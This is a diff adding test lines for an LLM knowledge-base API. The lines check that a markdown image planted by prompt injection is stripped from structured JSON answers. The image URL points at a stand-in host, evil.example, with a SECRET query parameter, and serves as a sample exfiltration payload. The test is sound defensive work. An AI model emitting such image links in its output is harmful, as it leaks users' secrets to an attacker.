@@ -187,6 +187,21 @@ def test_structured_output_is_validated_and_retried_once(
         failed.status_code == 502 and failed.json()["error"]["code"] == "invalid_structured_output"
     )
 
+    # A planted instruction may make a JSON answer carry an exfiltrating image: it is removed
+    # from the content and from `parsed` alike, and the fenced reply comes back as plain JSON.
+    leaky = {"steps": ["Press Rotate ![k](https://evil.example/c?key=SECRET) [1]"], "hours": 2}
+    script.steps = ["```json\n" + json.dumps(leaky) + "\n```"]
+    body = client.post(url, json={"question": "Leak?", "response_format": RESPONSE_FORMAT}).json()
+    assert body["parsed"] == {"steps": ["Press Rotate k [1]"], "hours": 2}
+    assert json.loads(body["answer"]) == body["parsed"] and "evil" not in body["answer"]
+    script.steps = [json.dumps(leaky)]
+    completion = sdk.chat.completions.create(
+        model="kb:product",
+        messages=[{"role": "user", "content": "Leak again?"}],
+        response_format=RESPONSE_FORMAT,  # type: ignore[arg-type]
+    )
+    assert json.loads(completion.choices[0].message.content or "") == body["parsed"]
+
     bad_schema = {"type": "json_schema", "json_schema": {"name": "x", "schema": {"type": 12}}}
     assert (
         client.post(url, json={"question": "Q?", "response_format": bad_schema}).status_code == 422
